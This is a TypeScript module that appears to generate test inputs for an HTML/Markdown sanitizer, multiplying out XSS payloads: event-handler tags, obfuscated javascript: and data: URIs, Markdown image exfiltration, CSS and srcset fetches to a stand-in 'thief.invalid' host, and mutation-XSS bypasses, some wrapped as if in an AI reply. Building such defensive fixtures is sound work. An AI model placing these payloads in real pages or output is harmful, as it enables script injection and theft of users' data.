/**
 * Ways in which a text is known to have run scripts or fetched things where it was shown, by the classes they fall into
 * (the OWASP and PortSwigger lists, published bypasses of sanitisers by mutation, Markdown exfiltration), multiplied out.
 * `hit()` is the script that must not run, and `thief` the address that must not be asked.
 */
const thief = 'https://thief.invalid/?stolen';
const script = 'hit()';

const tags = [
  ...[
    'script',
    'img',
    'image',
    'svg',
    'math',
    'iframe',
    'object',
    'embed',
    'video',
    'audio',
    'source',
    'track',
    'link',
  ],
  ...['meta', 'base', 'form', 'input', 'button', 'select', 'textarea', 'details', 'dialog', 'marquee', 'style', 'body'],
  ...['template', 'noscript', 'frameset', 'applet', 'portal', 'bgsound', 'keygen', 'isindex', 'animate', 'set', 'use'],
  ...['foreignObject', 'a', 'p', 'td', 'li', 'code', 'h3', 'xss-element', 'plaintext', 'xmp', 'listing', 'selectmenu'],
];

const events = [
  ...[
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'onfocusin',
    'ontoggle',
    'onbeforetoggle',
    'onpointerenter',
    'onbegin',
  ],
  ...[
    'onmouseover',
    'onanimationstart',
    'ontransitionrun',
    'onstart',
    'onscrollend',
    'oncontentvisibilityautostatechange',
  ],
];

const addresses = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `java\tscript:${script}`,
  `java&#9;script:${script}`,
  `&#106;&#97;vascript:${script}`,
  `&Tab;javascript&colon;${script}`,
  `\u0001javascript:${script}`,
  ` javascript:${script}`,
  `javascript://%0a${script}`,
  `vbscript:${script}`,
  `data:text/html,<script>parent.${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`,
  `//thief.invalid/?stolen`,
  thief,
];

const carriers = [
  'href',
  'src',
  'xlink:href',
  'action',
  'formaction',
  'data',
  'poster',
  'srcdoc',
  'background',
  'ping',
];

const quoting: ((value: string) => string)[] = [
  (value) => `"${value.replaceAll('"', '&quot;')}"`,
  (value) => `'${value.replaceAll("'", '&#39;')}'`,
  (value) => value.replaceAll(/\s/g, '/'),
];

/** One tag with one event, in the spellings that parsers forgive. */
function* byEvent(): Generator<string> {
  for (const tag of tags) {
    for (const event of events) {
      yield `<${tag} ${event}="${script}" autofocus tabindex=0 open src=x>`;
    }
    yield `<${tag.toUpperCase()}/OnErRoR=${script}//src=x>`;
    yield `<${tag}\n\tonfocus\n=\n"${script}" autofocus>x</${tag}>`;
    yield `<${tag} x="a"onload="${script}">`;
    yield `<<${tag} onload=${script}>`;
    yield `<${tag} \u0000onload=${script}>`;
  }
}

function* byAddress(): Generator<string> {
  for (const [index, address] of addresses.entries()) {
    for (const carrier of carriers) {
      for (const tag of [
        'a',
        'iframe',
        'object',
        'form',
        'img',
        'input type=image',
        'svg><use',
        'math',
        'embed',
        'base',
      ]) {
        const quote = quoting[index % quoting.length] ?? String;
        yield `<${tag} ${carrier}=${quote(address)}>x`;
      }
    }
  }
}

function* byMarkdown(): Generator<string> {
  for (const address of addresses) {
    yield* [
      `[x](${address})`,
      `[x](<${address}>)`,
      `[x](${address} "title")`,
      `[x][r]\n\n[r]: ${address}`,
      `[r]\n\n[r]: <${address}> 'title" onclick="${script}'`,
      `![x](${address})`,
      `![x](<${address}>)`,
      `![x][r]\n\n[r]: ${address}`,
      `[![x](${address})](${address})`,
      `![\`](${address})\``,
      `<${address}>`,
      `[x](${address}'onclick='${script})`,
      `![" onerror="${script}](x)`,
      `![x](x "\\" onerror=\\"${script}")`,
      `[x\`](y)<img src=${address}>\``,
      `| a |\n|---|\n| ![x](${address}) |`,
    ];
  }
  yield* [
    `\`\`\`" onmouseover="${script}\nx\n\`\`\``,
    `\`\`\`<img src=x onerror=${script}>\nx\n\`\`\``,
    `~~~js"><script>${script}</script>\nx\n~~~`,
    `# <img src=x onerror=${script}>`,
    `<!-- --><img src=x onerror=${script}>`,
    `<!--><img src=x onerror=${script}>-->`,
    `<![CDATA[<img src=x onerror=${script}>]]>`,
    `<?xml-stylesheet href="${thief}"?>`,
  ];
}

/** Fetches without a script. */
const fetching = [
  `<img srcset="${thief} 1x">`,
  `<picture><source srcset="${thief}"><img></picture>`,
  `<link rel=stylesheet href="${thief}">`,
  `<link rel=prefetch href="${thief}">`,
  `<link rel=dns-prefetch href="//thief.invalid">`,
  `<style>@import url(${thief});</style>`,
  `<style>*{background:url(${thief})}</style>`,
  `<p style="background:url(${thief})">x</p>`,
  `<p style="background:image-set('${thief}' 1x)">x</p>`,
  `<ul style="list-style-image:url(${thief})"><li>x</ul>`,
  `<td background="${thief}">x`,
  `<svg><image href="${thief}"/></svg>`,
  `<svg><feImage href="${thief}"/></svg>`,
  `<svg style="filter:url(${thief})"/>`,
  `<video poster="${thief}"></video>`,
  `<audio src="${thief}" autoplay></audio>`,
  `<input type=image src="${thief}">`,
  `<meta http-equiv=refresh content="0;url=${thief}">`,
  `<base href="${thief}"><img src=x>`,
  `<object data="${thief}"></object>`,
  `<embed src="${thief}">`,
  `<iframe src="${thief}"></iframe>`,
  `<body background="${thief}">`,
  `<script src="${thief}"></script>`,
  `<form action="${thief}"><button autofocus>x</button></form>`,
];

/** Markup that says one thing when it is sanitised and another when it is put into the page (mutation). */
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<svg><desc><![CDATA[<image><style></style><img/src onerror=${script}>]]>`,
  `<option><style></option></select><img src=x onerror=${script}></style></option>`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=${script}>">`,
  `<table><td><svg><style><a title="</style><img src onerror=${script}>"></style></svg></table>`,
  `<a id="x"><a name="innerHTML"><img src=x onerror=${script}>`,
  `<form id=x><input name=attributes><input name=parentNode><img src onerror=${script}></form>`,
  `<svg><foreignObject><p><style><!--</style><img src onerror=${script}>--></p></foreignObject></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${script}>">`,
  `<template><style></template><img src=x onerror=${script}></style>`,
  `<select><template><style></template></select><img src=x onerror=${script}>`,
  `<div><template shadowrootmode=open><img src=x onerror=${script}></template></div>`,
  `</p><img src=x onerror=${script}>`,
  `<p>${'<b>'.repeat(600)}<img src=x onerror=${script}>`,
];

/** What may stand around it. */
const around: ((text: string) => string)[] = [
  (text) => text,
  (text) => `Sure, here it is: ${text} as asked.`,
  (text) => `- one\n- ${text}\n- three`,
  (text) => `> ${text}`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll('\n', ' ')} | c |`,
  (text) => `**${text}**`,
  (text) => `<p>${text}</p>`,
  (text) => `\`\`\`html\n${text}`,
];

/** All of them; each class in each surrounding. */
export function* hostileTexts(): Generator<string> {
  for (const text of [...byEvent(), ...byAddress(), ...byMarkdown(), ...fetching, ...mutating]) {
    for (const put of around) yield put(text);
  }
}
